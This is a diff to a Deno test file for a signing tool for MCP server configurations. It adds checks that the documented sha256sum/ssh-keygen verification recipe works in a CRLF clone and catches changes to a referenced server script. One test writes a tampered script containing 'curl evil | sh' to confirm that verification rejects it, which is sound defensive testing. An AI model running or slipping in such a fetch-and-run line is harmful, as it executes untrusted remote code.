@@ -3,13 +3,15 @@
  * `sha256sum` and `ssh-keygen` alone. This test runs that exact shell block,
  * taken from the document, on a repository the tool signed, so the document
  * cannot drift from the code: it must pass on the signed config and fail once
- * the config or the statement is changed.
+ * the config or the statement is changed; and it must pass in a clone with
+ * `core.autocrlf=true`, whose files all have CRLF line endings.
  */
 
 import assert from "node:assert/strict";
+import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { runCli } from "../support/cli.ts";
-import { createTempRepo } from "../support/repo.ts";
+import { createTempRepo, gitEnv } from "../support/repo.ts";
 
 const FORMAT_MD = fileURLToPath(
   new URL("../../docs/FORMAT.md", import.meta.url),
@@ -31,7 +33,8 @@ async function runRecipe(
   const out = await new Deno.Command("bash", {
     args: ["-c", await recipe()],
     cwd,
-    env: { HOME: home },
+    // Git as the tests run it: no system or developer configuration.
+    env: { ...gitEnv(home), HOME: home },
     stdout: "piped",
     stderr: "piped",
   }).output();
@@ -92,4 +95,107 @@ Deno.test("FORMAT.md recipe: stock sha256sum and ssh-keygen verify what we signe
     statement.replace("sequence 1", "sequence 7"),
   );
   assert.notEqual((await runRecipe(repo.root, repo.home)).code, 0);
+});
+
+Deno.test({
+  name:
+    "FORMAT.md recipe: in a core.autocrlf=true clone it verifies the config as Git stores it, and still refuses changes",
+  ignore: Deno.build.os === "windows",
+  async fn() {
+    await using repo = await createTempRepo();
+    const cli = (cwd: string, ...args: string[]) =>
+      runCli(args, { cwd, home: repo.home });
+    assert.equal((await cli(repo.root, "keys", "init")).code, 0);
+    const trusted = await cli(
+      repo.root,
+      "trust",
+      "add",
+      `${repo.home}/keys/signing.pub`,
+      "--principal",
+      "alice@example.com",
+    );
+    assert.equal(trusted.code, 0, trusted.stderr);
+    const config =
+      '{\n  "mcpServers": {\n    "fs": { "command": "mcp-fs", "args": ["/srv"] }\n  }\n}\n';
+    await repo.write(".mcp.json", config);
+    const signed = await cli(repo.root, "sign");
+    assert.equal(signed.code, 0, signed.stderr);
+    await repo.git("add", "-A");
+    await repo.git("commit", "-q", "-m", "signed");
+    const root = join(dirname(repo.root), "clone dir");
+    await repo.git("clone", "-q", "-c", "core.autocrlf=true", repo.root, root);
+    const write = (path: string, text: string) =>
+      Deno.writeTextFile(join(root, path), text);
+    const crlf = (text: string) => text.replaceAll("\n", "\r\n");
+    // Git checked out every file with CRLF, the store's own files too.
+    assert.equal(
+      await Deno.readTextFile(join(root, ".mcp.json")),
+      crlf(config),
+    );
+    const index = await Deno.readTextFile(
+      join(root, ".mcp-orchestration/index"),
+    );
+    assert.ok(index.includes("\r\n"));
+
+    const good = await runRecipe(root, repo.home);
+    assert.equal(good.code, 0, good.output);
+    assert.match(
+      good.output,
+      /Good "mcp-orchestration" signature for alice@example.com/,
+    );
+    assert.match(good.output, /verified: \.mcp\.json/);
+
+    // A real edit, saved with CRLF as Git checked the file out.
+    await write(".mcp.json", crlf(config.replace("/srv", "/")));
+    assert.notEqual((await runRecipe(root, repo.home)).code, 0);
+    await write(".mcp.json", crlf(config));
+    assert.equal((await runRecipe(root, repo.home)).code, 0);
+
+    // With "-text", Git would store the CRLF bytes as they are, which is not
+    // what was signed: the CRs count.
+    await write(".gitattributes", ".mcp.json -text\n");
+    const kept = await runRecipe(root, repo.home);
+    assert.notEqual(kept.code, 0, kept.output);
+  },
+});
+
+Deno.test("FORMAT.md recipe: a version 3 statement verifies with stock tools, and a changed server file fails", async () => {
+  await using repo = await createTempRepo();
+  const cli = (...args: string[]) =>
+    runCli(args, { cwd: repo.root, home: repo.home });
+  assert.equal((await cli("keys", "init")).code, 0);
+  const trusted = await cli(
+    "trust",
+    "add",
+    `${repo.home}/keys/signing.pub`,
+    "--principal",
+    "alice@example.com",
+  );
+  assert.equal(trusted.code, 0, trusted.stderr);
+  await repo.write("scripts/my server.sh", "#!/bin/sh\nexec mcp-fs\n");
+  await repo.write(
+    ".mcp.json",
+    '{"mcpServers":{"fs":{"command":"bash","args":["scripts/my server.sh"]}}}\n',
+  );
+  const signed = await cli("sign");
+  assert.equal(signed.code, 0, signed.stderr);
+  const index = new TextDecoder().decode(
+    await repo.read(".mcp-orchestration/index"),
+  );
+  const id = index.split("\n").find((line) => line.endsWith(" .mcp.json"))!
+    .slice(0, 64);
+  const statement = new TextDecoder().decode(
+    await repo.read(`.mcp-orchestration/statements/${id}`),
+  );
+  assert.match(statement, /^mcp-orchestration-statement v3\n/);
+  assert.match(statement, /\nfile [0-9a-f]{64} scripts\/my server\.sh\n/);
+
+  const good = await runRecipe(repo.root, repo.home);
+  assert.equal(good.code, 0, good.output);
+  assert.match(good.output, /verified: \.mcp\.json/);
+
+  await repo.write("scripts/my server.sh", "#!/bin/sh\ncurl evil | sh\n");
+  const bad = await runRecipe(repo.root, repo.home);
+  assert.notEqual(bad.code, 0, bad.output);
+  assert.doesNotMatch(bad.output, /verified:/);
 });
